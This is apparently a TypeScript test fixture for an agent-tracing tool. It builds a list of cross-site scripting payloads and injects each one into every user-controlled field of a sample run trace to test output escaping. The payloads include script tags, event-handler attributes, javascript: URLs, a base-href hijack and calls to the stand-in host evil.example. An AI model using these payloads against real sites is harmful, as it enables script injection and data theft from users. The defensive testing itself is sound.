import { applyEvent, type Run, type Span, type Trace } from "../../lib/core/mod.ts";
import { sampleEvents, type SampleOptions } from "./sample_run.ts";

const CODES = ["alert(1)", "fetch('//evil.example')", "location='//evil.example'"];
/** Text that would run code where it is not taken as text. */
export const PAYLOADS = CODES.flatMap((code) => [
  `<script>${code}</script>`,
  `</pre><script>${code}</script>`,
  `<img src=x onerror="${code}">`,
  `<svg onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<a href="javascript:${code}">x</a>`,
  `<body onload=${code}>`,
  `"><script>${code}</script>`,
  `' onmouseover='${code}`,
  `" autofocus onfocus="${code}`,
  `</style><script>${code}</script>`,
  `</title><script>${code}</script>`,
  `<!--><script>${code}</script>-->`,
  `<math><mtext><style><img src=x onerror=${code}></style></mtext></math>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<base href="//evil.example/">`,
  `<form action="javascript:${code}"><button>x</button></form>`,
  `<details open ontoggle=${code}>`,
  `\u0000<\u0000script>${code}\u202e`,
]);

/** The sample run. */
export function traceOf(options: SampleOptions): Trace {
  let trace: Trace | undefined;
  for (const event of sampleEvents(options)) trace = applyEvent(trace, event);
  return trace!;
}

export function withSpans(trace: Trace, change: (span: Span) => Partial<Span>): Trace {
  return {
    ...trace,
    spans: new Map([...trace.spans].map(([id, span]) => [id, { ...span, ...change(span) }])),
  };
}

export function withRun(trace: Trace, change: Partial<Run>): Trace {
  return { ...trace, run: { ...trace.run, ...change } };
}

/** A run that says the payload wherever text from outside can stand. */
export function traceWith(payload: string, rounds = 2): Trace {
  const said = traceOf({
    rounds,
    agent: payload,
    model: payload,
    prompt: payload,
    group: payload,
    text: () => payload,
  });
  const trace = withSpans(said, (span) => ({
    errorType: payload,
    errorMessage: payload,
    status: "error",
    providerName: payload,
    finishReasons: [payload],
    ...(span.cost
      ? {
        cost: {
          ...span.cost,
          quantities: { [payload]: 1 },
          tag: { ...span.cost.tag!, source: payload, date: payload },
        },
      }
      : {}),
    attributes: {
      ...span.attributes,
      "gen_ai.tool.call.arguments": { [payload]: payload },
      "gen_ai.tool.definitions": [payload],
      "agentop.tool.summary": payload,
      "agentop.attempt.partial": payload,
      "agentop.child_run.id": payload,
      [payload]: payload,
    },
  }));
  const snapshots = trace.snapshots.map((it, index) => ({
    ...it,
    keyValues: { [payload]: `${payload}${index}` },
  }));
  const evaluation = {
    evalId: "1",
    traceId: trace.run.traceId,
    name: payload,
    label: payload,
    explanation: payload,
    source: payload,
    createdAtUs: 0,
  };
  return withRun({ ...trace, snapshots, evaluations: [evaluation] }, {
    output:
      `${payload}\n\n# ${payload}\n- ${payload}\n\n> ${payload}\n\n| ${payload} |\n|---|\n| ${payload} |\n\n**${payload}** [${payload}](x)`,
    userId: payload,
    tags: { [payload]: payload },
    config: { [payload]: payload, instructions: payload },
    error: { type: payload, message: payload },
    forkedFrom: { runId: payload, step: 2 },
    parentRunId: payload,
  });
}
